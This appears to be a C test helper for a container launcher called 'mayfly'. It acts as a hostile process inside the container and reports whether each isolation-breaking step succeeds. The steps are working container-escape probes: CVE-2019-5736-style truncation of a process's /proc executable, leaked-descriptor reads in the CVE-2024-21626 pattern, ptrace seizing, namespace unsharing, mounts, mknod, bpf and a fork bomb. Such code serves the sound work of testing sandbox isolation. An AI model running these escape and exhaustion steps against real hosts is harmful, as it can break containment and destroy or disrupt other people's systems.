/* What a hostile program in a container tries. Each line of output is a name and what came of it: `ok` or the errno's name. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *name, long result) {
  printf("%s %s\n", name, result >= 0 ? "ok" : strerrorname_np(errno));
  fflush(stdout);
}

/* Every open descriptor below 70000, whoever opened it. */
static int descriptors(void) {
  for (int fd = 0; fd < 70000; fd++)
    if (fcntl(fd, F_GETFD) >= 0) printf("%d ", fd);
  return puts("") < 0;
}

/* CVE-2019-5736 against one process: its program, its memory, its descriptors, its root. */
static int process(const char *pid) {
  char path[64], link[256];
  static const char *const readable[] = {"mem", "environ", "maps", "root/.", "cwd/.", "exe"};
  for (size_t i = 0; i < sizeof readable / sizeof *readable; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, readable[i]);
    say(readable[i], open(path, O_RDONLY | O_NONBLOCK));
  }
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  say("write-exe", open(path, O_WRONLY));
  say("truncate-exe", truncate(path, 0));
  snprintf(path, sizeof path, "/proc/%s/fd/2", pid);
  say("fd", readlink(path, link, sizeof link));
  say("kill-9", kill(atoi(pid), 0));
  say("attach", ptrace(PTRACE_ATTACH, atoi(pid), 0, 0));
  say("seize", ptrace(PTRACE_SEIZE, atoi(pid), 0, 0));
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
  say("vm-read", process_vm_readv(atoi(pid), &here, 1, &there, 1, 0));
  int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
  say("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
  return 0;
}

/* A process of the launcher on its way to a program shows the launcher's arguments still. */
static int is_ours(int pid) {
  char path[64], start[16] = "";
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? 0 : read(fd, start, sizeof start - 1);
  if (fd >= 0) close(fd);
  return n >= 6 && strncmp(start, "mayfly", 6) == 0;
}

/* Else nobody but us would see it end: a zombie is its tracer's first (kernel/exit.c, wait_consider_task). */
static void let_go(int pid) {
  int status;
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* What of an exec in progress can be had: its program, its descriptors (CVE-2024-21626), itself. */
static void grab(int pid) {
  char path[64], link[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDWR);
  if (fd >= 0 && is_ours(pid) && ftruncate(fd, 0) == 0) puts("OVERWROTE");
  if (fd >= 0) close(fd);
  for (int n = 3; n < 64; n++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length > 0 && is_ours(pid)) link[length] = 0, printf("SAW %d %s\n", n, link);
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  puts(is_ours(pid) ? "TRACED" : "traced a program of the container");
  let_go(pid);
}

/* Until it has met and attacked so many processes on their way into the container; pids go up. */
static int watch(int wanted) {
  puts("up");
  fflush(stdout);
  for (int met = 0, newest = 0; met < wanted;) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid() || !is_ours(pid)) continue;
      if (pid > newest) met++, newest = pid;
      grab(pid);
    }
    if (proc) closedir(proc);
  }
  puts("met all");
  fflush(stdout);
  return pause();
}

/* Calls that would loosen the walls. Arguments are harmless should one succeed. */
static int calls(void) {
  struct clone_args user = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  say("unshare-user", unshare(CLONE_NEWUSER));
  say("unshare-mnt", unshare(CLONE_NEWNS));
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  say("clone-user", pid);
  pid = syscall(SYS_clone3, &user, sizeof user);
  if (pid == 0) _exit(0);
  say("clone3-user", pid);
  say("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  say("umount", umount2("/proc", MNT_DETACH));
  say("pivot-root", syscall(SYS_pivot_root, "/", "/"));
  say("open-tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
  say("mknod", mknod("/disk", S_IFBLK | 0600, 0x100));
  say("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
  say("handle", syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, 0));
  say("bpf", syscall(SYS_bpf, 0, NULL, 0));
  say("io-uring", syscall(SYS_io_uring_setup, 1, NULL));
  return 0;
}

static int keyring(const char *how) {
  if (strcmp(how, "make") == 0) {
    long key = syscall(SYS_add_key, "user", "mayfly-spec", "sesame", 6, KEY_SPEC_SESSION_KEYRING);
    syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, 60);
  }
  say("session", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
  printf("id %ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
  say("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "mayfly-spec", 0));
  return 0;
}

static int ipc(const char *how) {
  if (strcmp(how, "make") == 0) {
    say("shm", shmget(0x6d61, 4096, IPC_CREAT | 0666));
    say("mq", mq_open("/mayfly", O_CREAT | O_RDWR, 0666, NULL));
    pause();
  }
  say("shm", shmget(0x6d61, 4096, 0));
  say("mq", mq_open("/mayfly", O_RDWR));
  return 0;
}

/* Forks until it cannot; the children stay. */
static int fork_bomb(void) {
  int count = 0;
  for (pid_t pid; count < 5000 && (pid = fork()) >= 0; count++)
    if (pid == 0) pause();
  printf("stopped %d %s\n", count, strerrorname_np(errno));
  fflush(stdout);
  pause();
  return 0;
}

/* Grandchildren that end when their parent is gone already. */
static int orphans(int count) {
  for (int i = 0; i < count; i++) {
    pid_t child = fork();
    if (child == 0) {
      if (fork() == 0) usleep(1000);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
  puts("done");
  fflush(stdout);
  pause();
  return 0;
}

static int is(const char *a, const char *b) { return strcmp(a, b) == 0; }

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "", *with = argc > 2 ? argv[2] : "";
  if (is(what, "descriptors")) return descriptors();
  if (is(what, "process")) return process(with);
  if (is(what, "watch")) return watch(atoi(with));
  if (is(what, "calls")) return calls();
  if (is(what, "keyring")) return keyring(with);
  if (is(what, "ipc")) return ipc(with);
  if (is(what, "fork-bomb")) return fork_bomb();
  if (is(what, "orphans")) return orphans(atoi(with));
  if (is(what, "ids")) return printf("%d %d\n", (int)getuid(), (int)geteuid()) < 0;
  if (is(what, "write")) {
    for (int i = 2; i < argc; i++) say(argv[i], open(argv[i], O_WRONLY | O_NONBLOCK));
    return 0;
  }
  return 64;
}
